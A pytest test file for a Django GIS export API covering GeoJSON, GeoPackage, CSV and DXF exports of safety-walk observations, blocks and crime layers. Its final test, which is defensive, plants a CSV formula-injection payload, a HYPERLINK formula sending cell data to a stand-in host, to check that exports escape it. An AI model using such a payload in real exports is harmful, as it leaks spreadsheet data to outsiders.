import re

import pytest
import shapely
from pyogrio import raw as ogr

from tests.layers.export_helpers import (
    body_of,
    by_id,
    fast_passwords_fixture,  # noqa: F401
    geojson_of,
    read_with_gdal,
)
from tests.layers.exports_data import world_fixture  # noqa: F401

pytestmark = pytest.mark.django_db
URL = "/api/areas/testarea/export/{}"


@pytest.fixture
def analyst(client_for, member):
    return client_for(member("analyst"))


def test_geojson_blocks_carry_the_latest_done_run(analyst, world):
    collection = geojson_of(analyst.get(URL.format("blocks.geojson")))
    assert set(collection) == {"type", "features"}  # RFC 7946: no crs member
    sw = by_id(collection)["SW"]["properties"]
    assert sw["run_id"] == world["latest"].pk
    assert (sw["crime_count"], sw["crime_gi_bin"], sw["class"]) == (5, 2, "both_high")
    assert by_id(collection)["NW"]["properties"]["insecurity_index"] is None


def test_geojson_polygons_follow_the_right_hand_rule(analyst, world):
    for layer in ("blocks", "observations", "crime_blocks"):
        for feature in geojson_of(analyst.get(URL.format(f"{layer}.geojson")))["features"]:
            geom = shapely.geometry.shape(feature["geometry"])
            for polygon in getattr(geom, "geoms", [geom]):
                if polygon.geom_type == "Polygon":
                    assert polygon.exterior.is_ccw, (layer, feature["id"])
    # Lines keep the direction they were drawn in.
    walk = geojson_of(analyst.get(URL.format("walks.geojson")))["features"][0]
    assert walk["geometry"]["coordinates"][0] == [13.0011111, 55.6011111]


def test_geojson_coordinates_have_at_most_seven_decimals(analyst, world):
    text = body_of(analyst.get(URL.format("observations.geojson"))).decode()
    coordinates = re.findall(r'"coordinates":(\[[^"]*\])', text)
    decimals = [len(n.split(".")[1]) for c in coordinates for n in re.findall(r"-?\d+\.\d+", c)]
    assert max(decimals) == 7
    point = by_id(geojson_of(analyst.get(URL.format("observations.geojson"))))
    lamp_out = point[world["obs"]["lamp_out"].pk]["geometry"]["coordinates"]
    assert lamp_out == [13.0012346, 55.6019877]


def test_geojson_observation_attributes_are_stable(analyst, world):
    features = by_id(geojson_of(analyst.get(URL.format("observations.geojson"))))
    lamp_out = features[world["obs"]["lamp_out"].pk]["properties"]
    assert lamp_out == {
        "id": world["obs"]["lamp_out"].pk,
        "walk_id": world["walks"]["night"].pk,
        "walk_name": "Night walk",
        "kind": "lighting_defect",
        "kind_label": "Lighting defect",
        "polarity": "negative",
        "geometry_type": "Point",
        "severity": 4,
        "feeling": 2,
        "note": "Lamp out by the underpass",
        "captured_at": "2025-06-01T20:15:00+00:00",
        # As the walk report prints it (Stockholm summer time), and the block it lies in.
        "captured_local": "2025-06-01 22:15",
        "block_code": "SW",
        "accuracy_m": 4.5,
        "light": "night",
        "photo_count": 1,
        "follow_up": "open",
        "follow_up_note": "",
    }
    assert features[world["obs"]["square"].pk]["properties"]["polarity"] == "positive"


def test_file_name_says_area_layer_and_date(analyst, world):
    response = analyst.get(URL.format("observations.geojson") + "?kind=lighting_defect")
    disposition = response["Content-Disposition"]
    assert re.fullmatch(
        r'attachment; filename="testarea_observations-lighting_defect_\d{4}-\d\d-\d\d\.geojson"',
        disposition,
    )
    assert response["Content-Type"] == "application/geo+json"


def test_geopackage_is_in_the_analysis_crs_with_typed_fields(analyst, world, area):
    meta, geoms, fields = read_with_gdal(analyst.get(URL.format("blocks.gpkg")), ".gpkg")
    assert meta["crs"] == f"EPSG:{area.analysis_srid}" == "EPSG:32633"
    types = dict(zip(meta["fields"], meta["ogr_types"], strict=True))
    assert types["crime_count"] == "OFTInteger64"
    assert types["crime_gi_z"] == "OFTReal"
    assert types["class"] == "OFTString"
    assert len(geoms) == 4
    # Each quadrant is about 565 m by 556 m: metres, not degrees.
    assert all(300_000 < g.area < 330_000 for g in geoms)
    assert all(p.exterior.is_ccw for g in geoms for p in g.geoms)
    assert sorted(zip(fields["code"], fields["crime_count"], strict=True)) == [
        ("NE", 1),
        ("NW", 0),
        ("SE", 2),
        ("SW", 5),
    ]


def test_geopackage_keeps_mixed_observation_geometries_and_times(analyst, world):
    meta, geoms, fields = read_with_gdal(analyst.get(URL.format("observations.gpkg")), ".gpkg")
    assert sorted(g.geom_type for g in geoms) == ["LineString", "Point", "Point", "Polygon"]
    types = dict(zip(meta["fields"], meta["ogr_types"], strict=True))
    assert types["captured_at"] == "OFTDateTime"
    assert types["severity"] == "OFTInteger64"
    assert "author" not in meta["fields"]
    assert sorted(fields["kind"]) == [
        "blocked_sightline",
        "lighting_defect",
        "safe_place",
        "unsafe_spot",
    ]


def test_sightlines_have_their_length_in_metres(analyst, world):
    meta, geoms, fields = read_with_gdal(analyst.get(URL.format("sightlines.gpkg")), ".gpkg")
    assert meta["geometry_type"] == "LineString"
    [length] = fields["length_m"]
    # 0.001° of longitude at 55.6° N is about 63 m.
    assert 62 < length < 64 and abs(geoms[0].length - length) < 0.5


def test_csv_has_wkt_that_gdal_reads(analyst, world):
    response = analyst.get(URL.format("crime.csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = body_of(response)
    text = data.decode()
    assert text.splitlines()[0].startswith("WKT,id,category,")
    meta, geoms, fields = read_with_gdal(data, ".csv")
    assert len(fields["category"]) == 8
    assert sorted(g.geom_type for g in geoms) == ["Point"] * 8
    assert shapely.from_wkt(text.splitlines()[1].split(",")[0]).equals(
        shapely.Point(13.002, 55.602)
    )


def test_csv_rewinds_polygons_too(analyst, world):
    text = body_of(analyst.get(URL.format("observations.csv"))).decode()
    [polygon_row] = [row for row in text.splitlines() if row.startswith('"POLYGON')]
    assert shapely.from_wkt(polygon_row.split('"')[1]).exterior.is_ccw


def test_dxf_draws_outlines_in_metres_on_cad_layers_per_kind(analyst, world, tmp_path):
    response = analyst.get(URL.format("observations.dxf"))
    path = tmp_path / "o.dxf"
    path.write_bytes(body_of(response))
    meta, _, wkb, values = ogr.read(str(path))
    layers = dict(zip(meta["fields"], values, strict=True))["Layer"]
    assert sorted(layers) == [
        "observations_blocked_sightline",
        "observations_lighting_defect",
        "observations_safe_place",
        "observations_unsafe_spot",
    ]
    geoms = dict(zip(layers, shapely.from_wkb(wkb), strict=True))
    outline = geoms["observations_unsafe_spot"]
    assert outline.geom_type in ("LineString", "LinearRing") and outline.is_closed
    assert outline.bounds[0] > 100_000  # UTM metres


def test_dxf_of_blocks_has_one_outline_per_block(analyst, world, tmp_path):
    path = tmp_path / "b.dxf"
    path.write_bytes(body_of(analyst.get(URL.format("blocks.dxf"))))
    _, _, wkb, _ = ogr.read(str(path))
    outlines = shapely.from_wkb(wkb)
    assert len(outlines) == 4 and all(o.is_closed for o in outlines)


def test_empty_layers_export_in_every_format(analyst, area):
    for fmt in ("geojson", "csv", "gpkg", "dxf"):
        response = analyst.get(URL.format(f"lamps.{fmt}"))
        assert response.status_code == 200
        body = body_of(response)
        if fmt == "geojson":
            assert b'"features": [\n\n]' in body
        assert body


def test_exports_stream_with_constant_queries(analyst, world, area, django_assert_max_num_queries):
    from django.contrib.gis.geos import Point

    from layers.models import Lamp

    Lamp.objects.bulk_create(
        [Lamp(area=area, geom=Point(13.001 + i * 1e-5, 55.601, srid=4326)) for i in range(50)]
    )
    with django_assert_max_num_queries(8):
        response = analyst.get(URL.format("lamps.geojson"))
        assert response.streaming
        assert len(geojson_of(response)["features"]) == 52


EXPECTED = {
    "blocks": 4,
    "observations": 4,
    "sightlines": 1,
    "lamps": 2,
    "walks": 1,
    "crime_blocks": 4,
    "crime": 8,
}


@pytest.mark.parametrize("layer", sorted(EXPECTED))
def test_every_layer_reads_back_in_every_format(analyst, world, area, layer):
    expected = EXPECTED[layer]
    meta, geoms, fields = read_with_gdal(analyst.get(URL.format(f"{layer}.geojson")), ".geojson")
    assert meta["crs"] in ("EPSG:4326", "OGC:CRS84") and len(geoms) == expected
    # GDAL reads the string ids of block features (their codes) as an extra "id" field.
    attribute_names = [f for f in meta["fields"] if not (f == "id" and layer.endswith("blocks"))]
    meta, geoms, fields = read_with_gdal(analyst.get(URL.format(f"{layer}.gpkg")), ".gpkg")
    assert meta["crs"] == f"EPSG:{area.analysis_srid}" and len(geoms) == expected
    assert list(meta["fields"]) == attribute_names
    meta, geoms, fields = read_with_gdal(analyst.get(URL.format(f"{layer}.csv")), ".csv")
    assert len(geoms) == expected and list(meta["fields"])[1:] == attribute_names
    meta, geoms, fields = read_with_gdal(analyst.get(URL.format(f"{layer}.dxf")), ".dxf")
    assert len(geoms) == expected and all(name.startswith(layer) for name in fields["Layer"])


@pytest.mark.parametrize(
    "name, accept",
    [
        ("lamps.geojson", "application/geo+json"),
        ("lamps.gpkg", "application/geopackage+sqlite3"),
        ("lamps.csv", "text/csv"),
        ("lamps.csv", "*/*"),
    ],
)
def test_a_file_is_the_one_its_url_names_whatever_the_accept_header(analyst, world, name, accept):
    # DRF's negotiation answered 406 to a client that asked for the file's own media type.
    response = analyst.get(URL.format(name), HTTP_ACCEPT=accept)
    assert response.status_code == 200
    # The name is testarea_lamps_<date>.<format>: the URL's name itself never appears in it.
    layer, fmt = name.split(".")
    disposition = response["Content-Disposition"]
    assert f"_{layer}_" in disposition and disposition.endswith(f'.{fmt}"')


def test_drfs_format_override_does_not_turn_a_bad_parameter_into_a_404(analyst, world):
    response = analyst.get(URL.format("lamps.csv") + "?format=xyz")
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")


def test_geopackage_is_version_1_2_for_older_gdal_and_qgis(analyst, world, tmp_path):
    import sqlite3

    path = tmp_path / "blocks.gpkg"
    path.write_bytes(body_of(analyst.get(URL.format("blocks.gpkg"))))
    with sqlite3.connect(path) as db:
        assert db.execute("PRAGMA user_version").fetchone()[0] == 10200


def test_a_note_that_reads_as_a_formula_is_not_one_in_the_csv(analyst, world):
    # A participant's note could otherwise run in the planner's spreadsheet.
    import csv
    import io

    world["obs"]["lamp_out"].note = '=HYPERLINK("http://example.invalid/?x="&A1,"click")'
    world["obs"]["lamp_out"].save()
    rows = list(
        csv.DictReader(io.StringIO(body_of(analyst.get(URL.format("observations.csv"))).decode()))
    )
    [note] = [r["note"] for r in rows if r["id"] == str(world["obs"]["lamp_out"].pk)]
    assert note == "'" + world["obs"]["lamp_out"].note
    assert all(not r["note"].startswith(("=", "+", "-", "@")) for r in rows)
